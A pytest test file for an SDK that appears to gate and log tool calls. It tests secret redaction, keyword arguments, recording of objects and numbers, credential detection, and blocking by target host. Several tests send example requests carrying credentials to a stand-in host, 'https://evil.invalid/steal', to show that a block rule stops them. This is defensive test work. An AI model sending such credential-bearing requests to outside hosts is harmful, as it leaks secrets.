"""Issue 14, the SDK's part: nothing slips through. Each test was written to fail on the
code before the fix: redact paths that match nothing, `**kwargs`, methods and objects,
numbers, credentials in wrapped calls, and the host a wrapped request really goes to."""

from __future__ import annotations

import asyncio
import dataclasses
import datetime
import decimal
import enum
import fractions
import http.server
import json
import threading
import types
import uuid
from collections import OrderedDict, deque
from pathlib import Path
from typing import Any, Iterator, Mapping, Optional

import pytest

import heso

SECRET = "sk-live-s3cret-value-0042"


def log_text(root: Path) -> str:
    path = root / "heso-local-data" / "receipts.jsonl"
    return path.read_text() if path.exists() else ""


def read_log(root: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in log_text(root).splitlines()]


def last_action(root: Path) -> dict[str, Any]:
    action: dict[str, Any] = read_log(root)[-1]["content"]["action"]
    return action


def nothing_in_the_clear(root: Path, secret: str = SECRET) -> None:
    """The secret is in no file under heso-local-data/ (log, salts, pending items)."""
    for path in (root / "heso-local-data").rglob("*"):
        if path.is_file():
            assert secret.encode() not in path.read_bytes(), path


def add_rules(root: Path, text: str) -> None:
    with open(root / "heso.toml", "a") as f:
        f.write("\n" + text)


# --- 1. redact paths that match nothing -------------------------------------------------


def test_a_redact_path_that_cannot_match_the_signature_raises_when_applied(project: Path) -> None:
    heso.init()
    with pytest.raises(ValueError) as typo:

        @heso.tool(redact=["apikey"])
        def call_partner_api(api_key: str, endpoint: str) -> None: ...

    message = str(typo.value)
    assert "'apikey'" in message and "api_key" in message and "endpoint" in message

    with pytest.raises(ValueError, match="kwargs"):

        @heso.destructive(redact=["kwargs.api_key"])
        def old_style(**kwargs: Any) -> None: ...

    with pytest.raises(ValueError, match="self"):

        class Client:
            @heso.tool(redact=["self.token"])
            def fetch(self, url: str) -> None: ...

    # These can match: a parameter, a path inside one, a wildcard, anything under **kwargs.
    @heso.tool(redact=["creds.token", "*", "api_key"])
    def fine(creds: dict[str, str], api_key: str) -> None: ...

    @heso.tool(redact=["anything.at.all"])
    def open_ended(endpoint: str, **options: Any) -> None: ...

    assert not read_log(project)  # applying a decorator records nothing


def test_a_redact_path_matching_no_value_refuses_the_call_before_anything_is_written(
    project: Path,
) -> None:
    heso.init()
    ran: list[str] = []

    @heso.tool(redact=["creds.token"])
    def login(creds: dict[str, str]) -> None:
        ran.append("login")

    with pytest.raises(heso.GateError) as refused:
        login({"tokn": SECRET})
    assert "creds.token" in str(refused.value) and SECRET not in str(refused.value)
    assert ran == [] and log_text(project) == ""

    # The same through heso.gated: refused before anything is recorded.
    with pytest.raises(heso.GateError):
        heso.gated(login, {"user": "x", "tokn": SECRET})
    assert log_text(project) == ""

    login({"token": SECRET})
    assert ran == ["login"]
    assert last_action(project)["fields"]["creds"]["token"].keys() == {"_sd"}
    nothing_in_the_clear(project)


def test_an_optional_argument_left_out_is_not_a_mismatch(project: Path) -> None:
    heso.init()

    @heso.tool(redact=["auth.token", "items.*.card"])
    def pay(amount: int, auth: Optional[dict[str, str]] = None, items: Any = ()) -> str:
        return "paid"

    assert pay(5) == "paid"  # auth left out (None), items empty: nothing to hide
    assert pay(5, None) == "paid"  # None given for a None default: the same
    assert pay(5, {"token": SECRET}, [{"card": "4111"}, {"card": "4242"}]) == "paid"
    fields = last_action(project)["fields"]
    assert fields["auth"]["token"].keys() == {"_sd"}
    assert [i["card"].keys() for i in fields["items"]] == [{"_sd"}, {"_sd"}]
    with pytest.raises(heso.GateError, match="items"):
        pay(5, None, [{"cvv": "123"}])

    @heso.tool(redact=["headers.Authorization"])
    def fetch(url: str, headers: Mapping[str, str] = types.MappingProxyType({})) -> str:
        return "fetched"

    # A default that is not None is an argument whose shape was chosen: it must match.
    with pytest.raises(heso.GateError):
        fetch("https://x.example")

    @heso.tool(redact=["api_key"])
    def flexible(endpoint: str, **options: Any) -> str:
        return "ok"

    assert flexible("e") == "ok"  # api_key not passed: left out
    nothing_in_the_clear(project)


# --- 2. **kwargs --------------------------------------------------------------------------


def test_keyword_arguments_are_top_level_fields_so_redact_covers_them(project: Path) -> None:
    heso.init()

    @heso.tool(redact=["api_key"])
    def call_partner_api(endpoint: str, **kwargs: Any) -> str:
        return kwargs["api_key"][:3]

    assert call_partner_api("https://p.example", **{"api_key": SECRET, "limit": 3}) == "sk-"
    fields = last_action(project)["fields"]
    assert set(fields) == {"endpoint", "api_key", "limit"}
    assert fields["api_key"].keys() == {"_sd"} and fields["limit"] == 3
    nothing_in_the_clear(project)


def test_a_keyword_that_collides_with_a_parameter_is_refused(project: Path) -> None:
    heso.init()

    @heso.tool
    def odd(api_key: str, /, **kwargs: Any) -> str:
        return "ran"

    # Legal Python: the positional-only `api_key` and a keyword `api_key` in **kwargs.
    with pytest.raises(heso.GateError, match="api_key"):
        odd("a", api_key=SECRET)
    assert log_text(project) == ""
    assert odd("a", other=1) == "ran"
    assert last_action(project)["fields"] == {"api_key": "a", "other": 1}


def test_an_approved_call_with_keyword_arguments_resumes(project: Path, tmp_path: Path) -> None:
    from conftest import add_approver, run_heso

    key = add_approver(project)
    heso.init()
    ran: list[dict[str, Any]] = []

    @heso.destructive
    def purge(table: str, **kwargs: Any) -> None:
        ran.append({"table": table, **kwargs})

    with pytest.raises(heso.SuspendedError) as parked:
        purge("users", older_than=30)
    assert last_action(project)["fields"] == {"table": "users", "older_than": 30}
    pending_id = parked.value.pending_id
    approved = run_heso(
        "approve", pending_id, "--key", str(key), "--reason", "ok", "--yes",
        cwd=project, env={"HESO_APPROVER_PASSPHRASE": "approver pass"},
    )
    assert approved.returncode == 0, approved.stdout + approved.stderr
    heso.resume(pending_id)
    assert ran == [{"table": "users", "older_than": 30}]


# --- 3. methods, objects and numbers ------------------------------------------------------


class CRM:
    def __init__(self) -> None:
        self.password = SECRET

    @heso.tool
    def lookup_customer(self, customer_id: str) -> str:
        return f"customer {customer_id}"

    @classmethod
    @heso.tool
    def connect(cls, region: str) -> str:
        return region

    def __repr__(self) -> str:  # a repr that would leak, were it ever used
        return f"CRM(password={self.password!r})"


def test_methods_record_their_qualified_name_and_never_self(project: Path) -> None:
    heso.init()
    crm = CRM()
    assert crm.lookup_customer("c-1") == "customer c-1"
    action = last_action(project)
    assert action["tool_name"] == "CRM.lookup_customer"
    assert action["fields"] == {"customer_id": "c-1"}
    assert CRM.connect("eu") == "eu"
    action = last_action(project)
    assert action["tool_name"] == "CRM.connect" and action["fields"] == {"region": "eu"}

    class Local:  # a class inside a function: no `<locals>` in the name
        @heso.tool
        def run(self, n: int) -> int:
            return n

    assert Local().run(2) == 2
    assert last_action(project)["tool_name"] == "Local.run"
    gate = heso.gated(crm.lookup_customer, "c-2")  # a bound method
    assert gate.run() == "customer c-2"
    action = last_action(project)
    assert action["tool_name"] == "CRM.lookup_customer" and action["fields"] == {"customer_id": "c-2"}
    assert " at 0x" not in log_text(project)
    nothing_in_the_clear(project)


class Color(enum.Enum):
    RED = "red"


@dataclasses.dataclass
class Point:
    x: int
    y: int


class Opaque:
    def __init__(self) -> None:
        self.token = SECRET

    def __repr__(self) -> str:
        return f"Opaque(token={self.token!r})"


class Plain:
    pass


class ReadOnly(Mapping[str, int]):
    def __getitem__(self, key: str) -> int:
        return {"a": 1}[key]

    def __iter__(self) -> Iterator[str]:
        return iter(["a"])

    def __len__(self) -> int:
        return 1


def test_objects_without_a_data_shape_are_recorded_by_type_name_only(project: Path) -> None:
    heso.init()

    @heso.tool
    def record(**values: Any) -> None: ...

    record(
        opaque=Opaque(),
        plain=Plain(),
        nested={"inner": [Opaque()]},
        key={Plain(): "by key"},
        tuple_key={(1, "a"): "t"},
        fn=print,
        point=Point(1, 2),
        color=Color.RED,
        mapping=ReadOnly(),
        proxy=types.MappingProxyType({"k": "v"}),
        ordered=OrderedDict(b=2, a=1),
        queue=deque([1, 2]),
        frozen=frozenset({"b", "a"}),
        raw=b"\x01",
        day=datetime.date(2026, 12, 1),
        at=datetime.datetime(2026, 12, 1, 10, 30, tzinfo=datetime.timezone.utc),
        id=uuid.UUID("12345678-1234-5678-1234-567812345678"),
    )
    fields = last_action(project)["fields"]
    assert fields["opaque"] == "<Opaque>" and fields["plain"] == "<Plain>"
    assert fields["nested"] == {"inner": ["<Opaque>"]}
    assert fields["key"] == {"<Plain>": "by key"}
    assert fields["tuple_key"] == {'[1, "a"]': "t"}
    assert fields["fn"] == "<builtin_function_or_method>"
    assert fields["point"] == {"x": 1, "y": 2}
    assert fields["color"] == "red"
    assert fields["mapping"] == {"a": 1} and fields["proxy"] == {"k": "v"}
    assert fields["ordered"] == {"b": 2, "a": 1}
    assert fields["queue"] == [1, 2] and fields["frozen"] == ["a", "b"]
    assert fields["raw"] == {"$bytes_b64": "AQ=="}
    assert fields["day"] == "2026-12-01" and fields["at"] == "2026-12-01T10:30:00+00:00"
    assert fields["id"] == "12345678-1234-5678-1234-567812345678"
    assert " at 0x" not in log_text(project)
    nothing_in_the_clear(project)


def test_numbers_are_exact(project: Path) -> None:
    heso.init()

    @heso.tool
    def pay(**amounts: Any) -> None: ...

    pay(
        decimal=decimal.Decimal("5000.00"),
        decimal_exp=decimal.Decimal("5E+3"),
        decimal_small=decimal.Decimal("-1.5E-7"),
        fraction=fractions.Fraction(5000),
        third=fractions.Fraction(-1, 3),
        big=10**16,
        safe=2**53 - 1,
        unsafe=-(2**53),
        flag=True,
        ratio=0.25,
    )
    fields = last_action(project)["fields"]
    assert fields == {
        "decimal": "5000.00",
        "decimal_exp": "5000",
        "decimal_small": "-0.00000015",
        "fraction": "5000",
        "third": "-1/3",
        "big": "10000000000000000",
        "safe": 2**53 - 1,
        "unsafe": str(-(2**53)),
        "flag": True,
        "ratio": 0.25,
    }
    assert heso.to_json_value(decimal.Decimal("NaN")) == "NaN"
    assert heso.to_json_value(decimal.Decimal("1E+100000")) == "1E+100000"  # not 100,001 digits


# --- 4. credentials in wrapped calls -------------------------------------------------------


class _Completions:
    def create(self, **kwargs: Any) -> str:
        return "completion"


class _Chat:
    def __init__(self) -> None:
        self.completions = _Completions()


class FakeClient:
    def __init__(self, base_url: str = "https://api.example.com/v1/") -> None:
        self.base_url = base_url
        self.chat = _Chat()
        self.sent: list[str] = []

    def request(self, method: str, url: str, **kwargs: Any) -> str:
        self.sent.append(url)
        return f"{method} {url}"


def test_wrap_commits_credentials_wherever_they_appear(project: Path) -> None:
    heso.init()
    client = heso.wrap(FakeClient())
    client.chat.completions.create(
        model="m-1",
        api_key=SECRET + "-a",
        extra_headers={"Authorization": "Bearer " + SECRET, "X-Trace": "t-1"},
        options={"nested": {"COOKIE": "session=" + SECRET, "x-api-key": SECRET + "-b"}},
        headers_list=[("Proxy-Authorization", "Basic " + SECRET), ("Accept", "json")],
        raw={b"Api-Key": SECRET.encode()},
    )
    action = last_action(project)
    fields = action["fields"]
    assert fields["model"] == "m-1" and fields["extra_headers"]["X-Trace"] == "t-1"
    assert fields["api_key"].keys() == {"_sd"}
    assert fields["extra_headers"]["Authorization"].keys() == {"_sd"}
    assert fields["options"]["nested"]["COOKIE"].keys() == {"_sd"}
    assert fields["options"]["nested"]["x-api-key"].keys() == {"_sd"}
    assert fields["headers_list"][0][0] == "Proxy-Authorization"
    assert fields["headers_list"][0][1].keys() == {"_sd"}
    assert fields["headers_list"][1] == ["Accept", "json"]
    assert fields["raw"]["Api-Key"].keys() == {"_sd"}
    receipt = read_log(project)[-1]["content"]
    assert receipt["redaction"]["mode"] == "commit_and_reveal"
    assert len(receipt["redaction"]["markers"]) == 6
    assert SECRET not in log_text(project)
    nothing_in_the_clear(project)

    # No credential, no marker; redact= adds paths, which must match when given.
    client.chat.completions.create(model="m-2")
    assert "redaction" not in read_log(project)[-1]["content"]
    strict = heso.wrap(FakeClient(), redact=["json.password"])
    add_rules(project, '[[rule]]\nid = "http.allow"\norder = 1\nverb = "http_request"\ndecision = "allow"\n')
    heso.init()
    strict.request("POST", "/login", json={"user": "u", "password": SECRET})
    assert last_action(project)["fields"]["json"]["password"].keys() == {"_sd"}
    strict.request("GET", "/status")  # json left out: nothing to hide
    with pytest.raises(heso.GateError, match="json.password"):
        strict.request("POST", "/login", json={"user": "u", "pasword": SECRET})
    nothing_in_the_clear(project)
    with pytest.raises(ValueError):
        heso.wrap(FakeClient(), redact=["a..b"])


# --- 5. the host a wrapped request goes to -------------------------------------------------

BLOCK_EVIL = """
[[rule]]
id = "http.block.evil"
order = 1
verb = "http_request"
scope = "evil.invalid"
decision = "block"

[[rule]]
id = "http.allow"
order = 2
verb = "http_request"
decision = "allow"
"""


def test_wrap_records_the_host_the_request_goes_to(project: Path) -> None:
    add_rules(project, BLOCK_EVIL)
    heso.init()
    fake = FakeClient()
    client = heso.wrap(fake)
    with pytest.raises(heso.BlockedError):
        client.request("GET", "https://evil.invalid/steal")
    with pytest.raises(heso.BlockedError):
        client.request("GET", url="//evil.invalid/steal")  # scheme-relative: RFC 3986
    assert fake.sent == []
    assert last_action(project)["target_host"] == "evil.invalid"
    assert client.request("GET", "/v1/ok") == "GET /v1/ok"
    assert last_action(project)["target_host"] == "api.example.com"
    client.base_url = "https://evil.invalid/"  # set through the wrapper: seen at call time
    with pytest.raises(heso.BlockedError):
        client.request("GET", "/relative")
    with pytest.raises(heso.GateError, match="host"):
        client.request("GET", "http://[::1/broken")


def test_hosts_are_normalised_by_the_engine(project: Path) -> None:
    add_rules(project, BLOCK_EVIL)
    heso.init()
    fake = FakeClient()
    client = heso.wrap(fake)
    for url in ("https://EVIL.invalid/x", "https://evil.invalid./x", "https://evil.invalid:8443/x"):
        with pytest.raises(heso.BlockedError):
            client.request("GET", url)
        assert last_action(project)["target_host"] == "evil.invalid"
    assert fake.sent == []


class _Stub(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = json.dumps({"path": self.path, "auth": self.headers.get("Authorization")}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def stub_url() -> Iterator[str]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Stub)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


def test_httpx_client_requests_and_sends_are_gated_by_their_real_host(
    project: Path, stub_url: str
) -> None:
    httpx = pytest.importorskip("httpx")
    add_rules(project, BLOCK_EVIL)
    heso.init()
    with httpx.Client(base_url=stub_url, timeout=5) as raw:
        client = heso.wrap(raw, verbs={"send": "http_request", "get": "http_request"})
        reply = client.request("GET", "/hello", headers={"authorization": "Bearer " + SECRET})
        assert reply.json() == {"path": "/hello", "auth": "Bearer " + SECRET}
        action = last_action(project)
        assert action["target_host"] == "127.0.0.1"
        assert action["fields"]["headers"]["authorization"].keys() == {"_sd"}
        assert client.get("/again").json()["path"] == "/again"
        with pytest.raises(heso.BlockedError):
            client.request("GET", "https://EVIL.invalid./steal")
        with pytest.raises(heso.BlockedError):
            client.get("https://evil.invalid/steal")
        request = raw.build_request(
            "GET", "https://evil.invalid/steal", headers={"Cookie": "s=" + SECRET}
        )
        with pytest.raises(heso.BlockedError):
            client.send(request)
        sent = last_action(project)
        assert sent["tool_name"] == "send"
        assert sent["fields"]["0"]["url"] == "https://evil.invalid/steal"
        assert sent["fields"]["0"]["headers"]["cookie"].keys() == {"_sd"}
        ok = client.send(raw.build_request("GET", "/sent"))
        assert ok.json()["path"] == "/sent"
    nothing_in_the_clear(project)


def test_httpx_async_client_is_gated_by_its_real_host(project: Path, stub_url: str) -> None:
    httpx = pytest.importorskip("httpx")
    add_rules(project, BLOCK_EVIL)
    heso.init()

    async def main() -> None:
        async with httpx.AsyncClient(base_url=stub_url, timeout=5) as raw:
            client = heso.wrap(raw)
            reply = await client.request("GET", "/async", headers={"X-Api-Key": SECRET})
            assert reply.json()["path"] == "/async"
            with pytest.raises(heso.BlockedError):
                await client.request("GET", "https://evil.invalid/")

    asyncio.run(main())
    assert last_action(project)["target_host"] == "evil.invalid"
    nothing_in_the_clear(project)
